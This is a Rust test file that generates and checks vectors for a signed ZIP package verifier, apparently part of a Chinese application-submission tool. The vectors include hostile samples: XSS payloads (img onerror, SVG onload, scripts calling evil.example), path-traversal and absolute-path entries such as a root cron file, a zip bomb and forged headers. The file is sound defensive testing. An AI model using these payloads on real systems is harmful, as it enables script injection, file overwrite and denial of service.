//! Test vectors in `tests/data/packages/`, one file per case, the
//! expectation in the name:
//!
//! - `ok_*`: [`Status::Valid`];
//! - `warn_*`: [`Status::ValidWithWarnings`];
//! - `fail_<code>[_<note>]`: invalid or unrecognized, and the first problem
//!   reported has that [`Problem::code`].
//!
//! `cargo test -- --ignored generate_vectors` rewrites them.

use std::path::{Path, PathBuf};

use shenbao::model::{Finding, Target};
use shenbao::package::{verify, Limits, Manifest, Problem, SignatureFile, Status};

use super::fixture::{key, other_key, Application};
use super::raw_zip::{deflate, pack, unpack, RawEntry, DEFLATED, STORED};

pub(super) fn dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/packages")
}

/// Index of the entry with this name.
fn find(entries: &[RawEntry], name: &str) -> usize {
    entries
        .iter()
        .position(|e| e.name == name.as_bytes())
        .unwrap_or_else(|| panic!("{name} is in the package"))
}

/// Changes the entries of a package and packs them again.
fn edit(bytes: &[u8], f: impl FnOnce(&mut Vec<RawEntry>)) -> Vec<u8> {
    let mut entries = unpack(bytes);
    f(&mut entries);
    pack(&entries)
}

/// Changes the manifest, re-signs it with `key` and the trusted comment
/// `comment` (the manifest's own when `None`), and packs again.
fn resign(
    bytes: &[u8],
    signer: &shenbao::package::SigningKey,
    comment: Option<&str>,
    change: impl FnOnce(&mut Manifest) -> Vec<u8>,
) -> Vec<u8> {
    edit(bytes, |entries| {
        let m = find(entries, "manifest.json");
        let mut manifest = Manifest::parse(&entries[m].data()).expect("parses");
        let json = change(&mut manifest);
        let comment = comment.map_or_else(|| manifest.trusted_comment(), str::to_owned);
        let signature = SignatureFile::sign(signer, &json, &comment).encode();
        entries[m].set_data(&json);
        let s = find(entries, "manifest.sig");
        entries[s].set_data(&signature);
    })
}

/// Every vector: file name and bytes.
fn vectors() -> Vec<(&'static str, Vec<u8>)> {
    let minimal = Application::minimal().package().bytes;
    let base = Application::with_attachments().package().bytes;
    let pdf = "attachments/summary/01.pdf";
    let doc = "attachments/media/01.doc";
    let industry = {
        let mut app = Application::with_attachments();
        app.draft.values.set_text("route", "industry");
        app.draft
            .values
            .set_text("industry_association", "江苏省商业联合会");
        app.package().bytes
    };

    // Hostile content in a validly signed package: the reviewer must show
    // it inert (an applicant's tool, not this app, could make it).
    let hostile = {
        let mut app = Application::minimal();
        app.draft
            .values
            .set_text("unit_name", "<img src=x onerror=alert(1)>某某公司");
        app.attach(
            "s1",
            "summary",
            "活动总结.svg",
            "image/svg+xml",
            br#"<svg xmlns="http://www.w3.org/2000/svg" onload="alert('svg')"><script>alert('svg script');location='http://evil.example/'</script></svg>"#,
        );
        app.attach(
            "h1",
            "media",
            "报道.html",
            "text/html",
            b"<!doctype html><script>alert('html');fetch('http://evil.example/x')</script>",
        );
        app.package().bytes
    };

    vec![
        ("ok_minimal.zip", minimal),
        ("ok_script_attachments.zip", hostile),
        ("ok_attachments.zip", base.clone()),
        ("ok_industry_route.zip", industry),
        (
            "warn_findings.zip",
            Application::with_warning().package().bytes,
        ),
        // Not packages at all.
        (
            "fail_not_zip.bin",
            b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\n".to_vec(),
        ),
        (
            "fail_not_zip_truncated.zip",
            base[..base.len() / 2].to_vec(),
        ),
        (
            "fail_no_mimetype.zip",
            edit(&base, |e| {
                e.remove(0);
            }),
        ),
        ("fail_mimetype_not_first.zip", edit(&base, |e| e.swap(0, 1))),
        (
            "fail_wrong_mimetype.zip",
            edit(&base, |e| e[0].set_data(b"application/epub+zip")),
        ),
        (
            "fail_unsupported_version.zip",
            edit(&base, |e| {
                e[0].set_data(b"application/vnd.shenbao.package+zip;version=2")
            }),
        ),
        // The container.
        (
            "fail_mimetype_not_stored.zip",
            edit(&base, |e| {
                let data = e[0].data();
                e[0].method = DEFLATED;
                e[0].set_data(&data);
            }),
        ),
        ("fail_malformed_zip_appended.zip", {
            let mut b = base.clone();
            b.extend_from_slice(b"appended after the end record");
            b
        }),
        ("fail_malformed_zip_prepended.zip", {
            let mut b = b"#!/bin/sh\necho polyglot\nexit 0\n".to_vec();
            b.extend_from_slice(&base);
            b
        }),
        (
            "fail_duplicate_name.zip",
            // zip2 issue #841: a name map keeps one of the two; which one
            // a reviewer's unzip shows is anyone's guess.
            edit(&base, |e| {
                let form = e[find(e, "form.json")].clone();
                let mut forged = form.clone();
                forged.set_data(br#"{"forged":true}"#);
                e.push(forged);
            }),
        ),
        (
            "fail_duplicate_name_case.zip",
            edit(&base, |e| {
                let mut upper = e[find(e, "form.html")].clone();
                upper.name = b"FORM.HTML".to_vec();
                e.push(upper);
            }),
        ),
        (
            "fail_local_header_mismatch.zip",
            // The jarsigner bug (openjdk #23532): one name in the central
            // directory, another in the local header.
            edit(&base, |e| {
                let i = find(e, "form.html");
                e[i].local_name = Some(b"form.htm\0".to_vec());
            }),
        ),
        (
            "fail_local_header_mismatch_size.zip",
            edit(&base, |e| {
                let i = find(e, pdf);
                e[i].local_size = Some(e[i].size + 1);
            }),
        ),
        (
            "fail_unsafe_path_dotdot.zip",
            edit(&base, |e| {
                e.push(RawEntry::new(
                    "attachments/../../evil.sh",
                    b"#!/bin/sh",
                    STORED,
                ))
            }),
        ),
        (
            "fail_unsafe_path_absolute.zip",
            edit(&base, |e| {
                e.push(RawEntry::new(
                    "/etc/cron.d/evil",
                    b"* * * * * root true",
                    STORED,
                ))
            }),
        ),
        (
            "fail_unsafe_path_backslash.zip",
            edit(&base, |e| {
                e.push(RawEntry::new("..\\..\\evil.bat", b"echo", STORED))
            }),
        ),
        (
            "fail_unsafe_path_unicode.zip",
            edit(&base, |e| {
                e.push(RawEntry::new(
                    "attachments/summary/０１.pdf",
                    b"%PDF",
                    STORED,
                ))
            }),
        ),
        (
            "fail_encrypted.zip",
            edit(&base, |e| {
                let i = find(e, pdf);
                e[i].flags = 0x0001;
            }),
        ),
        (
            "fail_data_descriptor.zip",
            edit(&base, |e| {
                let i = find(e, "form.json");
                e[i].flags = 0x0008;
            }),
        ),
        (
            "fail_unsupported_compression.zip",
            edit(&base, |e| {
                let i = find(e, "form.json");
                e[i].method = 12;
            }),
        ),
        (
            "fail_extra_field.zip",
            // An "extended timestamp" field, as Info-ZIP adds.
            edit(&base, |e| {
                let i = find(e, "form.json");
                e[i].extra = vec![0x55, 0x54, 5, 0, 1, 0x80, 0x4b, 0x78, 0x4e];
            }),
        ),
        (
            "fail_noncanonical_header.zip",
            edit(&base, |e| {
                let i = find(e, "form.html");
                e[i].date = (31 << 9) | (9 << 5) | 20; // 2011-09-20
            }),
        ),
        (
            "fail_entry_too_large.zip",
            edit(&base, |e| {
                let i = find(e, doc);
                e[i].size = 100 * 1024 * 1024;
            }),
        ),
        (
            "fail_zip_bomb.zip",
            // Headers and manifest say 1 960 bytes; the stream inflates to
            // 16 MiB of zeros. Reading stops one byte past the declared size.
            edit(&base, |e| {
                let i = find(e, doc);
                e[i].stored = deflate(&vec![0u8; 16 * 1024 * 1024]);
            }),
        ),
        (
            "fail_corrupt_crc.zip",
            edit(&base, |e| {
                let i = find(e, pdf);
                e[i].crc ^= 1;
            }),
        ),
        // The manifest and signature.
        (
            "fail_missing_manifest.zip",
            edit(&base, |e| {
                e.remove(find(e, "manifest.json"));
            }),
        ),
        (
            "fail_missing_signature.zip",
            edit(&base, |e| {
                e.remove(find(e, "manifest.sig"));
            }),
        ),
        (
            "fail_manifest_not_canonical.zip",
            resign(&base, &key(), None, |m| {
                serde_json::to_vec_pretty(m).expect("json")
            }),
        ),
        (
            "fail_manifest_invalid.zip",
            resign(&base, &key(), None, |m| {
                m.entries[2].path = "attachments/summary/../01.pdf".into();
                m.to_json().expect("json")
            }),
        ),
        (
            "fail_malformed_signature.zip",
            edit(&base, |e| {
                let i = find(e, "manifest.sig");
                let text = String::from_utf8(e[i].data()).expect("ascii");
                e[i].set_data(text.replace('\n', "\r\n").as_bytes());
            }),
        ),
        (
            "fail_wrong_key_id.zip",
            resign(&base, &other_key(), None, |m| m.to_json().expect("json")),
        ),
        (
            "fail_bad_signature.zip",
            edit(&base, |e| {
                let i = find(e, "manifest.json");
                let mut manifest = Manifest::parse(&e[i].data()).expect("parses");
                manifest.applicant = "另一家公司".into();
                e[i].set_data(&manifest.to_json().expect("json"));
            }),
        ),
        (
            "fail_trusted_comment_mismatch.zip",
            resign(&base, &key(), Some("signed by hand"), |m| {
                m.to_json().expect("json")
            }),
        ),
        (
            "fail_error_findings.zip",
            resign(&base, &key(), None, |m| {
                m.findings.push(
                    (&Finding::error(Target::field("unit_code"), "请填写统一社会信用代码")).into(),
                );
                m.to_json().expect("json")
            }),
        ),
        // The files against the manifest.
        (
            "fail_extra_file.zip",
            edit(&base, |e| {
                e.push(RawEntry::new(
                    "attachments/summary/02.pdf",
                    b"%PDF-1.4 added after signing",
                    STORED,
                ))
            }),
        ),
        (
            "fail_missing_file.zip",
            edit(&base, |e| {
                e.remove(find(e, doc));
            }),
        ),
        (
            "fail_entry_order.zip",
            edit(&base, |e| {
                let (a, b) = (find(e, pdf), find(e, doc));
                e.swap(a, b);
            }),
        ),
        (
            "fail_size_mismatch.zip",
            edit(&base, |e| {
                let i = find(e, pdf);
                let mut data = e[i].data();
                data.extend_from_slice(b"% appended");
                e[i].set_data(&data);
            }),
        ),
        (
            "fail_tampered_attachment.zip",
            edit(&base, |e| {
                let i = find(e, pdf);
                let data = e[i].data();
                let forged = String::from_utf8(data)
                    .expect("ascii")
                    .replace("summary", "SUMMARY");
                e[i].set_data(forged.as_bytes());
            }),
        ),
        (
            "fail_tampered_form.zip",
            edit(&base, |e| {
                let i = find(e, "form.json");
                let text = String::from_utf8(e[i].data()).expect("utf-8");
                e[i].set_data(text.replace("常州市某某", "无锡市某某").as_bytes());
            }),
        ),
    ]
}

/// Rewrites the vector files. Run after a deliberate format change.
#[test]
#[ignore]
fn generate_vectors() {
    let dir = dir();
    std::fs::create_dir_all(&dir).expect("mkdir");
    for entry in std::fs::read_dir(&dir).expect("read dir") {
        let path = entry.expect("entry").path();
        let ext = path.extension().and_then(|e| e.to_str());
        if matches!(ext, Some("zip" | "bin")) {
            std::fs::remove_file(path).expect("remove");
        }
    }
    for (name, bytes) in vectors() {
        std::fs::write(dir.join(name), bytes).expect("write");
    }
}

/// The status and problem codes a file gets.
fn outcome(bytes: &[u8]) -> (Status, Vec<Problem>) {
    match verify(bytes, &Limits::default()) {
        Ok(v) => (v.status, v.problems),
        Err(problem) => (problem.status(), vec![problem]),
    }
}

fn check_expectation(name: &str, bytes: &[u8]) -> Result<(), String> {
    let (status, problems) = outcome(bytes);
    let messages: Vec<String> = problems
        .iter()
        .map(|p| format!("{}: {p}", p.code()))
        .collect();
    let stem = name.rsplit_once('.').map_or(name, |(s, _)| s);
    let ok = if stem.starts_with("ok_") {
        status == Status::Valid
    } else if stem.starts_with("warn_") {
        status == Status::ValidWithWarnings
    } else if let Some(rest) = stem.strip_prefix("fail_") {
        let first = problems.first().map(Problem::code).unwrap_or_default();
        !status.is_valid()
            && !first.is_empty()
            && (rest == first || rest.starts_with(&format!("{first}_")))
    } else {
        return Err(format!("{name}: the name states no expectation"));
    };
    if ok {
        Ok(())
    } else {
        Err(format!("{name}: got {status:?} {messages:?}"))
    }
}

/// Opens one vector file and checks it gets what its name says.
pub(super) fn check_file(name: &str) {
    let bytes = std::fs::read(dir().join(name)).expect("the vector file exists");
    if let Err(e) = check_expectation(name, &bytes) {
        panic!("{e}");
    }
}

#[test]
fn every_vector_file_gets_what_its_name_says() {
    let mut failures = Vec::new();
    let mut count = 0;
    for entry in std::fs::read_dir(dir()).expect("tests/data/packages exists") {
        let path = entry.expect("entry").path();
        let name = path
            .file_name()
            .and_then(|n| n.to_str())
            .expect("name")
            .to_owned();
        if name.ends_with(".md") {
            continue;
        }
        count += 1;
        let bytes = std::fs::read(&path).expect("read");
        if let Err(e) = check_expectation(&name, &bytes) {
            failures.push(e);
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    assert!(count >= 40, "only {count} vectors");
}

#[test]
fn freshly_made_vectors_get_what_their_names_say() {
    // The same cases from today's writer, so a change to the writer cannot
    // hide behind stale files.
    let failures: Vec<String> = vectors()
        .iter()
        .filter_map(|(name, bytes)| check_expectation(name, bytes).err())
        .collect();
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn problems_read_plainly() {
    let base = Application::with_attachments().package().bytes;
    let tampered = edit(&base, |e| {
        let i = find(e, "attachments/summary/01.pdf");
        let mut data = e[i].data();
        data[0] = b'#';
        e[i].set_data(&data);
    });
    let (status, problems) = outcome(&tampered);
    assert_eq!(status.label_zh(), "无效");
    assert_eq!(
        problems[0].to_string(),
        "附件 attachments/summary/01.pdf 的 SHA-256 与清单不符：文件在签名后被改动"
    );
    let (status, problems) = outcome(b"hello");
    assert_eq!(status.label_zh(), "无法识别");
    assert!(problems[0].to_string().starts_with("不是 ZIP 文件"));
}
